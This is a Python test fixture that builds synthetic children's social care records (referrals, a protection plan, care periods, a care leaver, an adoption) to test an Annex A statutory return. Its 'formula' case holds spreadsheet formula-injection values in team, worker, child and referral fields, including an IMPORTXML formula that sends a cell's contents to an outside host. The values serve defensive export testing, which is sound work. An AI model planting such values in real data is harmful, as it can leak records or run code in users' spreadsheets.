"""Children whose records test Annex A's hard cases, each made through the real services on the days the work was
done, around the six months to 31 March 2026 (`PERIOD`)."""

import datetime
from dataclasses import dataclass

from casemap.accounts.models import Role, Team, User
from casemap.cases.care_models import CarePeriod
from casemap.cases.models import (
    AbuseCategory,
    AssessmentOutcome,
    Case,
    CaseService,
    ClosureReason,
    NoteKind,
    ReferralDecision,
)
from casemap.cases.services import (
    case_allocate,
    case_change_service,
    case_close,
    case_note_add,
    referral_decide,
    referral_receive,
)
from casemap.cases.services.care import care_episode_change, care_period_end, care_period_start
from casemap.cases.services.care_adoption import (
    adoption_adopters_record,
    adoption_decision_record,
    adoption_match_record,
)
from casemap.cases.services.care_outcomes import care_leaver_outcome_record
from casemap.cases.services.care_records import (
    care_review_record,
    missing_episode_record,
    unaccompanied_status_cease,
    unaccompanied_status_record,
)
from casemap.cases.services.statutory import protection_plan_open, protection_plan_review
from casemap.conftest import TeamFactory, UserFactory, World
from casemap.meetings.models import MeetingKind
from casemap.people.models import Person
from casemap.people.services import person_create
from casemap.returns.annex_a.period import AnnexPeriod
from casemap.returns.tests.census_cases import DAY, _Family

PERIOD = AnnexPeriod(start=DAY(2025, 10, 1), end=DAY(2026, 3, 31))
# Names a spreadsheet would run as formulas if they were written as anything but text.
FORMULA_TEAM = '=HYPERLINK("http://example.org/","Duty")'
FORMULA_WORKER = "@SUM(1+1)"


@dataclass
class AnnexCases:
    referred: Person  # referred twice; the second referral assessed, a section 47 enquiry, a conference, a plan
    early_help: Person  # a contact decided for early help: a contact, never a referral
    in_care: Person  # a second period of care, with changes of legal status and placement, a review, missing, away
    care_leaver: Person  # arrived alone at 16, looked after until 18, now a former relevant care leaver
    adopted: Person  # fostered for adoption, placed under a placement order, matched, adopted in the period
    outside: Person  # referred, assessed and closed long before the period: in no list
    formula: Person  # held by a team and worker whose names start with = and @


def _referred(world: World) -> Person:
    family = _Family(
        world,
        "Okoro",
        DAY(2025, 5, 12),
        decision=ReferralDecision.NO_FURTHER_ACTION,
        date_of_birth=DAY(2016, 4, 12),
        sex="F",
        ethnicity="BAFR",
    )
    family.case = family.referral(DAY(2025, 11, 3))
    family.assessment(DAY(2025, 11, 4), DAY(2025, 12, 5), AssessmentOutcome.STRATEGY_DISCUSSION)
    _visit(world, family.case, family.child, DAY(2025, 11, 10), alone=False)
    held_on = family.enquiry_to_conference(DAY(2025, 11, 20))  # holding the conference completes the enquiry
    plan = protection_plan_open(
        acting_user=world.worker,
        case=family.case,
        child=family.child,
        started_on=held_on,
        category=AbuseCategory.NEGLECT,
    )
    family.conference(MeetingKind.REVIEW_CONFERENCE, DAY(2026, 2, 26))
    protection_plan_review(
        acting_user=world.worker, plan=plan, category=AbuseCategory.EMOTIONAL, reviewed_on=DAY(2026, 2, 26)
    )
    _visit(world, family.case, family.child, DAY(2026, 3, 2), alone=True)
    return family.child


def _visit(world: World, case: Case, child: Person, day: datetime.date, *, alone: bool) -> None:
    case_note_add(
        acting_user=world.worker,
        case=case,
        children=[child],
        kind=NoteKind.STATUTORY_VISIT,
        occurred_on=day,
        text="Visited at home; we talked in the garden.",
        child_seen=True,
        child_seen_alone=alone,
    )


def _early_help(world: World) -> Person:
    manager = world.other_team.manager
    assert manager is not None
    child = person_create(
        acting_user=world.other_worker,
        first_name="Ruby",
        last_name="Hughes",
        is_child=True,
        date_of_birth=DAY(2019, 8, 30),
        sex="F",
        ethnicity="WIRI",
    )
    case = referral_receive(
        acting_user=world.other_worker,
        children=[child],
        team=world.other_team,
        received_on=DAY(2026, 1, 12),
        source="3B",
        what_was_reported="The health visitor says the family is struggling since the baby came.",
    )
    case = referral_decide(
        acting_user=manager,
        case=case,
        decision=ReferralDecision.EARLY_HELP,
        decided_on=DAY(2026, 1, 12),
        reasons="Family support can help with routines.",
    )
    case = case_allocate(acting_user=manager, case=case, worker=world.other_worker, allocated_on=DAY(2026, 1, 12))
    case_close(acting_user=manager, case=case, closed_on=DAY(2026, 3, 20), closure_reason=ClosureReason.RC7)
    return child


def _case_in_care(world: World, child: Person, opened: datetime.date) -> Case:
    """A referral the manager decides the child must be looked after, as the demo's care families come in."""
    case = referral_receive(
        acting_user=world.worker,
        children=[child],
        team=world.team,
        received_on=opened,
        source="6",
        what_was_reported="Police asked for the child to be looked after tonight.",
    )
    case = referral_decide(
        acting_user=world.manager,
        case=case,
        decision=ReferralDecision.ASSESSMENT,
        decided_on=opened,
        reasons="The child cannot stay at home safely tonight.",
        primary_need="N1",
    )
    case = case_allocate(acting_user=world.manager, case=case, worker=world.worker, allocated_on=opened)
    return case_change_service(
        acting_user=world.manager, case=case, service=CaseService.CHILD_IN_CARE, changed_on=opened
    )


def _change(world: World, period: CarePeriod, **values: object) -> None:
    period.refresh_from_db()
    care_episode_change(acting_user=world.worker, period=period, expected_version=period.version, **values)  # type: ignore[arg-type]


def _end(world: World, period: CarePeriod, ended_on: datetime.date, reason: str) -> None:
    period.refresh_from_db()
    care_period_end(
        acting_user=world.worker, period=period, expected_version=period.version, ended_on=ended_on, reason=reason
    )


def _in_care(world: World) -> Person:
    child = person_create(
        acting_user=world.worker,
        first_name="Liam",
        last_name="Brennan",
        is_child=True,
        date_of_birth=DAY(2014, 6, 20),
        sex="M",
        ethnicity="WIRI",
    )
    case = _case_in_care(world, child, DAY(2025, 4, 10))
    first = care_period_start(
        acting_user=world.worker,
        case=case,
        child=child,
        started_on=DAY(2025, 4, 10),
        category_of_need="N1",
        legal_status="V2",
        placement_type="U3",
        provider="PR1",
    )
    _end(world, first, DAY(2025, 5, 1), "E4A")
    period = care_period_start(
        acting_user=world.worker,
        case=case,
        child=child,
        started_on=DAY(2025, 6, 2),
        category_of_need="N1",
        legal_status="V2",
        placement_type="U6",
        provider="PR1",
        placement_postcode="LS15 7QR",
    )
    common = {"provider": "PR1", "placement_type": "U6", "placement_postcode": "LS15 7QR"}
    _change(world, period, changed_on=DAY(2025, 8, 1), new_episode_reason="L", legal_status="C1", **common)
    _change(
        world,
        period,
        changed_on=DAY(2025, 12, 1),
        new_episode_reason="P",
        legal_status="C1",
        placement_type="K2",
        provider="PR4",
        placement_urn="SC482913",
        placement_postcode="WF1 2DS",
        placement_change_reason="CREQB",
    )
    home = {"provider": "PR4", "placement_type": "K2", "placement_urn": "SC482913", "placement_postcode": "WF1 2DS"}
    _change(world, period, changed_on=DAY(2026, 2, 2), new_episode_reason="L", legal_status="C2", **home)
    care_review_record(acting_user=world.worker, period=period, held_on=DAY(2026, 1, 10), participation="PN1")
    missing_episode_record(
        acting_user=world.worker, period=period, kind="M", started_on=DAY(2026, 2, 10), ended_on=DAY(2026, 2, 11)
    )
    missing_episode_record(
        acting_user=world.worker, period=period, kind="A", started_on=DAY(2026, 3, 1), ended_on=DAY(2026, 3, 1)
    )
    _visit(world, case, child, DAY(2026, 3, 10), alone=True)
    return child


def _care_leaver(world: World) -> Person:
    born = DAY(2007, 1, 15)
    child = person_create(
        acting_user=world.worker,
        first_name="Ahmad",
        last_name="Haidari",
        is_child=True,
        date_of_birth=born,
        sex="M",
        ethnicity="AOTH",
    )
    arrived, eighteen = DAY(2023, 3, 1), DAY(2025, 1, 15)
    case = _case_in_care(world, child, arrived)
    status = unaccompanied_status_record(acting_user=world.worker, case=case, child=child, since=arrived)
    period = care_period_start(
        acting_user=world.worker,
        case=case,
        child=child,
        started_on=arrived,
        category_of_need="N8",
        legal_status="V2",
        placement_type="U4",
        provider="PR5",
        placement_urn="SC065432",
        placement_postcode="LS8 1NT",
    )
    _end(world, period, eighteen, "E17")
    unaccompanied_status_cease(
        acting_user=world.worker, status=status, expected_version=status.version, ceased_on=eighteen
    )
    case = case_change_service(
        acting_user=world.manager, case=case, service=CaseService.CARE_LEAVER, changed_on=eighteen
    )
    care_leaver_outcome_record(
        acting_user=world.worker,
        case=case,
        child=child,
        year=2026,
        in_touch="YES",
        activity="F2",
        accommodation="Z1",
        recorded_on=DAY(2026, 1, 20),
    )
    case_note_add(
        acting_user=world.worker,
        case=case,
        children=[child],
        kind=NoteKind.HOME_VISIT,
        occurred_on=DAY(2026, 2, 20),
        text="Met at college; his course is going well.",
        child_seen=True,
    )
    return child


def _adopted(world: World) -> Person:
    child = person_create(
        acting_user=world.worker,
        first_name="Maisie",
        last_name="Dunn",
        is_child=True,
        date_of_birth=DAY(2022, 9, 5),
        sex="F",
        ethnicity="WBRI",
    )
    case = _case_in_care(world, child, DAY(2024, 3, 4))
    period = care_period_start(
        acting_user=world.worker,
        case=case,
        child=child,
        started_on=DAY(2024, 3, 4),
        category_of_need="N1",
        legal_status="C1",
        placement_type="U6",
        provider="PR1",
    )
    plan = adoption_decision_record(acting_user=world.worker, period=period, decided_on=DAY(2025, 6, 10))
    _change(
        world,
        period,
        changed_on=DAY(2025, 7, 1),
        new_episode_reason="P",
        legal_status="C1",
        placement_type="U5",
        provider="PR1",
        placement_change_reason="CARPL",
    )
    plan = adoption_match_record(
        acting_user=world.worker, plan=plan, expected_version=plan.version, matched_on=DAY(2025, 8, 20)
    )
    adoption_adopters_record(
        acting_user=world.worker,
        plan=plan,
        expected_version=plan.version,
        by_foster_carers=True,
        adopter_sexes="MF",
        adopter_legal_status="L11",
    )
    _change(
        world,
        period,
        changed_on=DAY(2025, 9, 1),
        new_episode_reason="U",
        legal_status="E1",
        placement_type="A5",
        provider="PR1",
        placement_change_reason="CARPL",
    )
    _end(world, period, DAY(2026, 2, 27), "E11")
    return child


def _outside(world: World) -> Person:
    family = _Family(world, "Price", DAY(2024, 1, 8), date_of_birth=DAY(2012, 3, 1))
    family.assessment(DAY(2024, 1, 9), DAY(2024, 2, 20), AssessmentOutcome.NO_FURTHER_ACTION)
    family.close(DAY(2024, 2, 20), ClosureReason.RC8)
    return family.child


def formula_team_create() -> tuple[Team, User, User]:
    """A team and its manager and worker, named as a spreadsheet formula would start."""
    team = TeamFactory(name=FORMULA_TEAM)
    manager = UserFactory(username="duty-manager", role=Role.TEAM_MANAGER, team=team)
    team.manager = manager
    team.save()
    worker = UserFactory(username="duty-worker", first_name=FORMULA_WORKER, last_name="", team=team)
    return team, manager, worker


def formula_child_create() -> Person:
    team, manager, worker = formula_team_create()
    child = person_create(
        acting_user=worker, first_name="=1+1", last_name="-Smith", is_child=True, date_of_birth=DAY(2013, 5, 1)
    )
    case = referral_receive(
        acting_user=worker,
        children=[child],
        team=team,
        received_on=DAY(2026, 3, 16),
        source="1C",
        what_was_reported='=IMPORTXML(CONCAT("http://example.org/?",A2),"//a")',
    )
    case = referral_decide(
        acting_user=manager,
        case=case,
        decision=ReferralDecision.ASSESSMENT,
        decided_on=DAY(2026, 3, 16),
        reasons="+Needs an assessment",
    )
    case_allocate(acting_user=manager, case=case, worker=worker, allocated_on=DAY(2026, 3, 16))
    return child


def annex_cases_create(world: World) -> AnnexCases:
    return AnnexCases(
        referred=_referred(world),
        early_help=_early_help(world),
        in_care=_in_care(world),
        care_leaver=_care_leaver(world),
        adopted=_adopted(world),
        outside=_outside(world),
        formula=formula_child_create(),
    )
